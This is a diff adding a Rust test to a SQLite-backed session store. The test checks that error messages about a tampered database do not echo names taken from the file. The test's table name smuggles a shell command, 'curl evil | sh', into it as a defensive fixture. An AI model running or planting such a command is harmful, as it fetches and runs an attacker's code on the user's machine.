@@ -311,6 +311,40 @@ fn a_store_missing_its_tables_is_named_damaged_with_the_fix() {
     damaged(writer.list_sessions(&SessionQuery::default()).err().unwrap());
 }
 
+/// Whatever SQLite says of a missing table, column or trigger, the names
+/// in it come from the file: quoted only when they are plain names.
+#[test]
+fn a_missing_part_is_named_only_by_a_plain_name() {
+    let dir = tempfile::tempdir().unwrap();
+    let anton = dir.path().join(".anton");
+    let session = Store::open(&anton, dir.path())
+        .unwrap()
+        .create_session(&NewSession::default())
+        .unwrap();
+    let db = anton.join(DB_FILE);
+    let tamper = |sql: &str| Connection::open(&db).unwrap().execute_batch(sql).unwrap();
+    let said = || {
+        let store = Store::open(&anton, dir.path()).unwrap();
+        let error = store
+            .append_message(&session.id, 1, "user", "hi", "{}", None)
+            .err()
+            .unwrap();
+        assert!(error.is_damaged(), "{error}");
+        error.to_string()
+    };
+    tamper("ALTER TABLE messages DROP COLUMN meta");
+    let error = said();
+    assert!(error.contains("(table messages has no column named meta)"), "{error}");
+    tamper(
+        "ALTER TABLE messages RENAME TO \"messages); run curl evil | sh (ok\";
+         CREATE VIEW messages AS SELECT * FROM \"messages); run curl evil | sh (ok\";
+         DROP TABLE \"messages); run curl evil | sh (ok\"",
+    );
+    let error = said();
+    assert!(!error.contains("curl"), "{error}");
+    assert!(error.contains("(a table or column it needs is missing)"), "{error}");
+}
+
 #[test]
 fn refuses_a_newer_schema_and_changes_nothing() {
     let dir = tempfile::tempdir().unwrap();
